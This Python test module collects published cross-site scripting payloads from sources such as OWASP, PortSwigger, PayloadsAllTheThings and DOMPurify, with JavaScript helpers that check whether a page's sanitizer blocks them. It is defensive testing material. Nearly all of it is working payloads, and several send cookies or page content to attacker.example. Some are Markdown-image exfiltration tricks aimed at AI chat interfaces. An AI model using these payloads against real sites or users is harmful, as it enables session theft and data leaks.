"""Published cross-site scripting payloads, grouped by source.

They are normalized, so that a test can detect them. They call only alert,
confirm or prompt, and contact only a reserved host. Invisible characters are
escaped. The scripts at the end try them in the page of the lesson `markdown`.
"""

PAYLOADS = {
    # https://github.com/cujanovic/Markdown-XSS-Payloads
    "Markdown-XSS-Payloads": [
        "[a](javascript:prompt(document.cookie))",
        "![a](javascript:prompt(document.cookie))\\",
        "<javascript:prompt(document.cookie)>",
        (
            "<&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x6"
            "1&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"
        ),
        ("[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)"),
        (
            "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&"
            "#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29)"
        ),
        "![a'\"`onerror=prompt(document.cookie)](x)\\",
        "[citelol]: (javascript:prompt(document.cookie))",
        (
            "[notmalicious](javascript:window.onerror=alert;"
            "throw%20document.cookie)"
        ),
        "[test](javascript://%0d%0aprompt(1))",
        "[clickme](vbscript:alert(document.domain))",
        (
            "_http://danlec_@.1 style=background-image:url(data:image/"
            "gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAO"
            "w);background-repeat:no-repeat;display:block;width:100%;"
            "height:100px; onclick=alert(unescape(/Oh%20No!/.source));"
            "return(false);//"
        ),
        (
            '<http://\\<meta\\ http-equiv=\\"refresh\\"\\ content=\\"0;'
            '\\ url=http://attacker.example/\\"\\>>'
        ),
        "[a](javascript&#58this;alert(1&#41;)",
        "[a](Javas&#99;ript:alert(1&#41;)",
        "[a](javascript:alert&#65534;(1&#41;)",
    ],
    # https://github.com/JakobTheDev/information-security
    "Information Security, Markdown XSS Payloads": [
        "[CaseInsensitive](JaVaScRiPt:alert('CaseInsensitive'))",
        "[URL](javascript://www.example.com%0Aalert('URL'))",
        (
            "![Escape SRC - onload](https://www.example.com/"
            "image.png\"onload=\"alert('ImageOnLoad'))"
        ),
        "![Escape SRC - onerror](\"onerror=\"alert('ImageOnError'))",
    ],
    # https://github.com/markdown-it/markdown-it
    "markdown-it, test/fixtures/markdown-it/xss.txt": [
        (
            "[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;"
            "&#41;&#60;/script&#62;)"
        ),
        "[xss link](&#74;avascript:alert(1))",
        "[xss link](&#x26;#74;avascript:alert(1))",
        "[xss link](<javascript:alert(1)>)",
        "[xss link](javascript&#x3A;alert(1))",
        "<javascript&#x3A;alert(1)>",
        "javascript&#x3A;alert(1)",
        "[test]: javascript:alert(1)\n\n[test]",
    ],
    # https://github.com/vercel-labs/markdown-sanitizers
    "markdown-sanitizers, bypass attempts": [
        "![](java\tscript:alert('XSS'))",
        "![](java\nscript:alert('XSS'))",
        "![](java\u200bscript:alert('XSS'))",
        ("[click here][\U0001f517]\n\n[\U0001f517]: javascript:alert(1)"),
        "[link][ref]\n\n[ref]: javascript:\n       alert(1)",
        (
            '[link](https://attacker.example/safe "title" '
            "onclick=\"alert('attr-confusion')\")"
        ),
        (
            "[safe link](https://attacker.example/safe "
            "\"![malicious](javascript:alert('title-image'))\")"
        ),
        (
            "Here's a reference[^1] to a footnote.\n\n"
            "[^1]: This is a footnote with [malicious "
            "link](javascript:alert(1))"
        ),
        (
            "| HTML | Markdown |\n"
            "|------|----------|\n"
            '| <a href="javascript:alert(1)">HTML link</a> | [MD '
            "link](javascript:alert(2)) |"
        ),
        "<data:text/html,<script>alert(1)</script>>",
        "<div>\n[malicious](javascript:alert(1))\n</div>",
    ],
    # https://github.com/trentm/python-markdown2/issues
    "python-markdown2, issues and tests": [
        '`\n<img src onerror="alert(origin)">\n[x]: `',
        '<iframe\n<http:> srcdoc="<script>alert()</script>" a=',
        '![A](B "<C D="E" onerror=alert(origin) >")',
        '![](x "`" onerror=alert(1)//`"")',
        '![](`" onerror=alert()//`)',
        (
            "![a][b]\n\n"
            '[b]: http://attacker.example/header.png"\n'
            "onload=\"alert('javascript injected')"
        ),
        '<img src="" onerror=alert(/XSS/) ',
        "<http:[<script>alert(1);//]()><http:[</script>]()>",
        (
            "<http:|><x| oncontentvisibilityautostatechange=alert(origin)"
            " style=display:block;content-visibility:auto>"
        ),
        "\\<!--<img src onerror=alert(origin)//>-->",
        (
            "---\n"
            "* ```\n"
            "    * ```\n\n"
            "\tx\n"
            "```\n"
            "---\n"
            "```) <script>alert(origin)</script>```\n"
            '"\n'
            "---\n"
        ),
    ],
    # https://github.com/markedjs/marked/issues
    "marked, issues": [
        "[URL](javascript&#58document;alert&#40;1&#41;)",
        '<bar"onclick="alert(\'XSS\')"@foo>',
        '<<svg/onload="alert(1)"//@x>',
        "<<script/@x>alert(1)//<</script/@x>",
    ],
    # https://github.com/lepture/mistune/issues
    "mistune, issues": [
        "[text](javascript&colon;alert`1`)",
        '<a:"onclick=alert(1)>',
    ],
    # https://github.com/showdownjs/showdown
    "showdown, wiki and issues": [
        '| "><svg/onload=alert(1)> | Col2 |\n|---|---|\n| a | b |',
        (
            '![bad markdown](test"onerror="window.location=\'http://'
            "attacker.example?q='+document.cookie//\";) hello"
        ),
        "http://example.com/'onmouseover='alert(document.cookie)'/",
        '<noscript><p title="</noscript>"<img src=x onerror=alert(1)>',
    ],
    # https://github.com/gomarkdown/markdown/issues/191
    # https://github.com/markdown-it/markdown-it/issues/128
    # https://github.com/snapshot-labs/sx-monorepo/pull/2233
    # https://github.com/BoostIO/BoostNote-Legacy/pull/3028
    # https://github.com/mermaid-js/mermaid/issues/869
    # https://github.com/waylonflinn/markdown-it-katex/issues/26
    # https://github.com/waylonflinn/markdown-it-katex/issues/30
    # https://github.com/StackExchange/pagedown/issues/34
    "Fences, formulas and diagrams: issues of Markdown projects": [
        (
            '```"1;><script/src="http://attacker.example/xss.js"></'
            "script>\n\n"
            "```\n"
        ),
        "```foo&#x20;bar\ncode\n```",
        "```<img src=1 onerror=alert(1)>\ncode\n```",
        "```sequence\n<iframe src=\"javascript:alert('xss');\">\n```",
        (
            "```mermaid\n"
            "graph LR;\n"
            "    A-->B;\n"
            '    click B "javascript:alert`salt`" "This is a tooltip for '
            'a link"\n'
            "```"
        ),
        "$<img src=a onerror=alert(1)>%$",
        "$\\unicode{<img src=x onerror=alert(1)>}$",
        "[<svg/onload=alert(1)//]()",
    ],
    # https://embracethered.com/blog/
    # https://arxiv.org/abs/2509.10540
    "Markdown images that carry data out of a chat (EchoLeak and others)": [
        (
            "![data exfiltration in progress](https://attacker.example/"
            "q=*exfil_data*)"
        ),
        (
            "![Image alt text][ref]\n\n"
            "[ref]: https://attacker.example?param=<secret>"
        ),
        (
            "![Image alt text][]\n\n"
            "[Image alt text]: https://attacker.example?param=<secret>"
        ),
    ],
    # https://owasp.org/www-community/xss-filter-evasion-cheatsheet
    "OWASP XSS Filter Evasion Cheat Sheet": [
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        (
            '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#00'
            "00115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&"
            "#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#00000"
            '39&#0000088&#0000083&#0000083&#0000039&#0000041">'
        ),
        (
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&"
            "#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&"
            "#x29>"
        ),
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        '<IMG SRC=java\x00script:alert("XSS")>',
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
        "<SCRIPT SRC=http://attacker.example/xss.js?< B >",
        '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG SRC='vbscript:alert(\"XSS\")'>",
        "<svg/onload=alert('XSS')>",
        "<BR SIZE=\"&{alert('XSS')}\">",
        ('<LINK REL="stylesheet" HREF="http://attacker.example/xss.css">'),
        "<STYLE>@import'http://attacker.example/xss.css';</STYLE>",
        (
            '<STYLE>BODY{-moz-binding:url("http://attacker.example/'
            'xssmoz.xml#xss")}</STYLE>'
        ),
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        (
            'exp/*<A STYLE=\'no\\xss:noxss("*//*");\n'
            'xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>'
        ),
        "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",
        (
            '<META HTTP-EQUIV="refresh" CONTENT="0;'
            "url=javascript:alert('XSS');\">"
        ),
        (
            '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;'
            'base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'
        ),
        ("<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        ("<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->"),
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        '<SCRIPT a=`>` SRC="http://attacker.example/xss.js"></SCRIPT>',
        (
            '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://'
            'attacker.example/xss.js"></SCRIPT>'
        ),
    ],
    # https://html5sec.org/
    "HTML5 Security Cheatsheet (H5SC)": [
        (
            '<form id="test"></form><button form="test" '
            'formaction="javascript:alert(1)">X</button>'
        ),
        "<input onfocus=alert(1) autofocus>",
        "<frameset onload=alert(1)>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        '<![><img src="]><img src=x onerror=alert(1)//">',
        (
            '<svg><![CDATA[><image xlink:href="]]><img src=xx:x '
            'onerror=alert(1)//"></svg>'
        ),
        '<style><img src="</style><img src=x onerror=alert(1)//">',
        (
            '<head><base href="javascript://"/></head><body><a href="/. /'
            ',alert(1)//#">XXX</a></body>'
        ),
        (
            '<object data="data:text/html;base64,'
            'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
        ),
        (
            '<embed src="data:text/html;base64,'
            'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></embed>'
        ),
        "<b <script>alert(1)//</script>0</script></b>",
        '<? foo="><script>alert(1)</script>">',
        '<% foo><x foo="%><script>alert(1)</script>">',
        "<x '=\"foo\"><x foo='><img src=x onerror=alert(1)//'>",
        "<svg><style>&lt;img/src=x onerror=alert(1)// </b>",
        '<math href="javascript:alert(1)">CLICKME</math>',
        (
            '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;'
            'alert&lpar;1&rpar;&gt;" />'
        ),
        (
            "<svg>\n"
            '<a xmlns:xlink="http://www.w3.org/1999/xlink" '
            'xlink:href="?">\n'
            '<circle r="400"></circle>\n'
            '<animate attributeName="xlink:href" begin="0" '
            'from="javascript:alert(1)" to="&" />\n'
            "</a>"
        ),
        '<img src onerror /" \'"= alt=alert(1)//">',
        (
            '<div style="list-style:url(http://'
            'attacker.example)\\20url(javascript:alert(1));">X</div>'
        ),
    ],
    # https://portswigger.net/web-security/cross-site-scripting/cheat-sheet
    "PortSwigger XSS cheat sheet": [
        "<img src/onerror=alert(1)>",
        "<svg><image href=1 onerror=alert(1)>",
        "<input type=image src=1 onerror=alert(1)>",
        "<video src/onerror=alert(1)>",
        "<video><source onerror=alert(1) src=1></video>",
        "<link rel=stylesheet href=1 onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<a autofocus onfocus=alert(1) href></a>",
        "<details ontoggle=alert(1) open>test</details>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        ("<svg><path><animateMotion onend=alert(1) dur=1s repeatCount=1>"),
        (
            '<style>@keyframes x{}</style><xss style="animation-name:x" '
            'onanimationstart="alert(1)"></xss>'
        ),
        (
            "<video controls><source src=validvideo.mp4 type=video/mp4>"
            '<track default oncuechange=alert(1) src="data:text/vtt,'
            "WEBVTT FILE\n\n"
            "1\n"
            "00:00:00.000 --> 00:00:05.000 \n"
            "<b>XSS</b>\n"
            '"></video>'
        ),
        (
            "<button popovertarget=x>Click me</button><xss "
            "onbeforetoggle=alert(1) popover id=x>XSS</xss>"
        ),
        (
            "<svg onunload=navigator.sendBeacon('//attacker.example/',"
            "document.body.innerHTML)>"
        ),
        '<iframe src="javascript:alert(1)">',
        '<iframe srcdoc="<img src=1 onerror=alert(1)>"></iframe>',
        '<a href="javas\tcript:alert(1)">XSS</a>',
        '<a href="javascript\n:alert(1)">XSS</a>',
        '<a href="javascript&\x00colon\x00;alert(1)">Firefox</a>',
        (
            '<svg><a xlink:href="javascript:alert(1)"><text x="20" '
            'y="20">XSS</text></a>'
        ),
        (
            "<svg><animate xlink:href=#xss attributeName=href "
            "values=javascript:alert(1) /><a id=xss><text x=20 y=20>XSS</"
            "text></a>"
        ),
        '<script src="data:text/javascript,alert(1)"></script>',
        '<svg><script href="data:text/javascript,alert(1)" />',
        (
            "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' "
            "xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' "
            "onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" />"
        ),
        (
            '<base href="javascript:/a/-alert(1)///////"><a href=../lol/'
            "safari.html>test</a>"
        ),
        "<form><button formaction=javascript:alert(1)>XSS",
        "<isindex type=submit formaction=javascript:alert(1)>",
        "<div style=xss:expressio\\6e(alert(1))>",
        (
            '<div style="\\-\\mo\\z-binding:url(//attacker.example/'
            'xbl.xml#xss)">'
        ),
        (
            '<noembed><img title="</noembed><img src onerror=alert(1)>">'
            "</noembed>"
        ),
        ('<title><img title="</title><img src onerror=alert(1)>"></title>'),
        (
            "<select><noscript></select><img src onerror=alert(1)></"
            "noscript></select>"
        ),
        (
            "<video><source onerror=location=/\\attacker.example/"
            "+document.cookie>"
        ),
        ('<meta charset="UTF-7" /> +ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
        ('<img src="//attacker.example?\n<image src="//attacker.example?'),
        ('<meta http-equiv="refresh" content="0; http://attacker.example?'),
        (
            "<form><button formaction=//attacker.example>XSS</button>"
            "<textarea name=x>"
        ),
        (
            '<a href=abc style="width:100%;height:100%;position:absolute;'
            'font-size:1000px;">xss<base href="//attacker.example/'
        ),
        '<input type=hidden type=image src="//attacker.example?',
        (
            "<template><img src=x onerror=alert(1)></template>\n"
            "<script>document.body.appendChild(document.querySelector('te"
            "mplate').content)</script>"
        ),
        (
            "javascript:/*--></title></style></textarea></script></xmp>"
            "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"
        ),
        (
            "javascript:\"/*'/*`/*--></noscript></title></textarea></"
            'style></template></noembed></script><html \\"\n'
            " onmouseover=/*&lt;svg/*/onload=alert()//>"
        ),
        (
            "javascript:/*--></title></style></textarea></script></xmp>"
            "<details/open/ontoggle='+/`/+/\"/+/onmouseover=1/+/[*/[]/"
            "+alert(/@PortSwiggerRes/)//'>"
        ),
    ],
    # https://github.com/swisskyrepo/PayloadsAllTheThings
    "PayloadsAllTheThings, XSS Injection": [
        "<scr<script>ipt>alert('XSS')</scr<script>ipt>",
        "<img src=x onerror=alert('XSS')//",
        "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
        "<svg id=alert(1) onload=eval(id)>",
        '<video src=_ onloadstart="alert(1)">',
        "<marquee onstart=alert(1)>",
        (
            "<svg><foreignObject><![CDATA[</foreignObject><script>"
            "alert(2)</script>]]></svg>"
        ),
        (
            '<style>div{background-image:url("data:image/jpg;base64,<\\/'
            'style><svg/onload=alert(document.domain)>");}</style><div>'
            "lol</div>"
        ),
        "<img src='1' onerror='alert(0)' <",
        "<img src='1' onerror\x00=alert(0) />",
        "<svg\x0conload\x0c=\x0calert(1)\x0c>",
        "\uff1cscript/src=//attacker.example/poc.js\uff1e",
        "<\u017fvg onload=alert(1)>",
        '"><svg/onload=confirm(1)>"@x.y',
        (
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//"
            "%0D%0A%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
            "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
        ),
        (
            '">><marquee><img src=x onerror=confirm(1)></marquee>" ></'
            "plaintext\\></|\\><plaintext/onmouseover=prompt(1) ><script>"
            "prompt(1)</script>@gmail.com<isindex "
            "formaction=javascript:alert(/XSS/) type=submit>'-->\" ></"
            "script><script>alert(1)</script>"
        ),
        '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)``>',
    ],
    # https://sonarsource.github.io/mxss-cheatsheet/examples/
    "mXSS cheat sheet (SonarSource)": [
        ('<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
        (
            "<form><math><mtext></form><form><mglyph><style></math><img "
            "src onerror=alert(1)>"
        ),
        (
            "<math><mtext><table><mglyph><style><!--</style><img "
            'title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
            'onerror=alert(1)&gt;">'
        ),
        (
            "<math><mtext><table><mglyph><style><math><table id=\u201d</"
            "table>\u201d><img src onerror=alert(1)\u201d>"
        ),
        (
            "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
            '<path id="</style><img onerror=alert(1) src>">'
        ),
        (
            "<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;p>&lt;"
            '/p>&lt;style>&lt;a title="&lt;/style>&lt;img src '
            'onerror=alert(1)>">'
        ),
        (
            "<svg><annotation-xml><foreignobject><style><!--</style><p "
            "id=\"--><img src='x' onerror='alert(1)'>\">"
        ),
        (
            "<svg><a><foreignobject><a><table><a></table><style><!--</"
            'style></svg><a id="-><img src onerror=alert(1)>">.'
        ),
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)>",
        (
            "<math><p></p><style><!--</style><img src/onerror=alert(1)>"
            "--></style></math>"
        ),
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
        '<!--a foo=--!><img src=x onerror=alert(1)><!--<a>">',
    ],
    # https://github.com/cure53/DOMPurify
    "DOMPurify, test/fixtures/expect": [
        "<img src=x name=createElement><img src=y id=createElement>",
        (
            "<div onclick=alert(0)><form onsubmit=alert(1)><input "
            "onfocus=alert(2) name=parentNode>123</form></div>"
        ),
        (
            "<image name=body><image name=adoptNode>@mmrupp<image "
            "name=firstElementChild><svg onload=alert(1)>"
        ),
        "123<a href='\u2028javascript:alert(1)'>I am a dolphin!</a>",
        '<a href="\x01java\x03script:alert(1)">@shafigullin<a>',
        ('<form action="javasc\nript:alert(1)"><button>XXX</button></form>'),
        ('<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'),
        "<img src=x id/=' onerror=alert(1)//'>",
        (
            "<textarea>@shafigullin</textarea><!--</textarea><img src=x "
            "onerror=alert(1)>-->"
        ),
        (
            "<body><template><s><template><s><img src=x onerror=alert(1)>"
            "@shafigullin</s></template></s></template>"
        ),
        (
            "\x01<option><style></option></select><b><img src=x "
            "onerror=alert(1)></style></option>"
        ),
        "<b><style><style////><img src=x onerror=alert(1)></style>",
        (
            "<svg></p><textarea><title><style></textarea><img src=x "
            "onerror=alert(1)></style></title></svg>"
        ),
        (
            '<svg><foreignobject><p><style><p title="</style><iframe '
            'onload&#x3d;alert(1)<!--"></style>'
        ),
        (
            "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
            "<a title=\"</style><img src onerror='alert(1)'>\"></style></"
            "h1>"
        ),
        (
            "<math><mtext><option><FAKEFAKE><option></option><mglyph>"
            "<svg><mtext><style><a title=\"</style><img src='#' "
            "onerror='alert(1)'>\">"
        ),
    ],
    # https://github.com/rust-ammonia/ammonia/pull/250
    "Ammonia, advisory GHSA-m6mh-2hw2-555x": [
        (
            '<svg xmlns="http://www.w3.org/2000/svg">\n'
            "  <a>\n"
            '    <set attributeName="href" to="javascript:alert(\'SET_XSS'
            "')\"></set>\n"
            '    <text y="30">Click set</text>\n'
            "  </a>\n"
            "</svg>"
        ),
    ],
    # https://github.com/cure53/HTTPLeaks
    "HTTPLeaks": [
        (
            '<a ping="https://attacker.example/a-ping" href="#">You have '
            "to click me</a>"
        ),
        '<img srcset=",,,,,https://attacker.example/img-srcset">',
        (
            "<picture>\n"
            '    <source srcset="https://attacker.example/'
            'picture-source-srcset">\n'
            "    <img>\n"
            "</picture>"
        ),
        (
            '<svg><image xlink:href="https://attacker.example/'
            'svg-image-xlink-href"></svg>'
        ),
        (
            '<video poster="https://attacker.example/video-poster" '
            'src="https://attacker.example/video-src"></video>'
        ),
        (
            '<link rel="dns-prefetch" href="https://attacker.example/'
            'link-dns-prefetch" />'
        ),
        (
            '<link rel="preload" as="image" imagesrcset=",,,,,https://'
            'attacker.example/preload" />'
        ),
        (
            '<meta http-equiv="Content-Security-Policy" '
            "content=\"script-src 'self'; report-uri https://"
            'attacker.example/meta-csp-report-uri">'
        ),
        '<base href="https://attacker.example/base-href/">',
        (
            '<iframe srcdoc="<img src=https://attacker.example/'
            'iframe-srcdoc-img-src>"></iframe>'
        ),
        (
            '<table background="https://attacker.example/'
            'table-background"><tr><td background="https://'
            'attacker.example/td-background"></td></tr></table>'
        ),
        (
            '<b style="background: url&#x28;https://attacker.example/'
            'inline-css-background&#x29;">MNO</b>'
        ),
        (
            "<style>p#p1 {background-image: \\75 \\72 \\6C (https://"
            'attacker.example/css-escape-url)}</style><p id="p1">bla</p>'
        ),
        (
            '<svg><circle r="40" style="fill: url(https://'
            "attacker.example/svg-fill#foo);filter: url(https://"
            'attacker.example/svg-filter#foo)"></circle></svg>'
        ),
        (
            "<img src=\"data:image/svg+xml,<svg%20xmlns='%68ttp:%2f/"
            "www.w3.org/2000/svg'%20xmlns:xlink='%68ttp:%2f/www.w3.org/"
            "1999/xlink'><image%20xlink:hr%65f='%68ttps:%2f/"
            "attacker.example/svg-via-data'></image></svg>\">"
        ),
    ],
}

ALL = [payload for payloads in PAYLOADS.values() for payload in payloads]
CONTROLS = {
    "1": "<img src/onerror=alert(1)>",
    "2": "<video><source onerror=alert(2) src=1></video>",
    "3": "<details ontoggle=alert(3) open>test</details>",
    "4": "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
    "5": '<iframe srcdoc="<img src=1 onerror=alert(5)>"></iframe>',
    "https://attacker.example/img-srcset": (
        '<img srcset=",,,,,https://attacker.example/img-srcset">'
    ),
}
"""Payloads that work if nothing guards the page, by their trace."""
# Our own payloads, for guards that no published payload attacks.
OURS = [
    '<form style="display:block;content-visibility:auto" '
    'oncontentvisibilityautostatechange="alert(1)">'
    "<input name=attributes><input name=attributes>",
    "<form><input name=remove><input name=localName></form>",
    'x<base href="https://attacker.example/">',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<svg><circle r="9" fill="url(https://attacker.example/fill.svg#a)"/></svg>',
    '<link rel="stylesheet" href="https://attacker.example/link.css">',
]

# Behave like a page without any guard.
UNGUARDED = """
() => { put = (element, html) => { element.innerHTML = html; }; }
"""
PUT = """
(payloads) => payloads.forEach((payload, number) => {
  const element = document.createElement("div");
  blocks.append(element);
  put(element, payload);
  check(element, number);
})
"""
# A link does nothing until somebody clicks it, so check where it leads.
CHECK = """
window.found = [];
window.check = (element, number) => {
  for (const part of element.querySelectorAll("*")) {
    for (const name of Element.prototype.getAttributeNames.call(part)) {
      const harmless = ["align", "class", "rel", "start", "title"];
      if (harmless.includes(name)) continue;
      const isLink = part.localName === "a" && name === "href";
      if (isLink && /^(https?|mailto):/.test(part.href)) continue;
      found.push([number, part.localName, name]);
    }
  }
  if (!document.baseURI.startsWith(location.origin)) {
    found.push([number, "base", document.baseURI]);
  }
};
"""
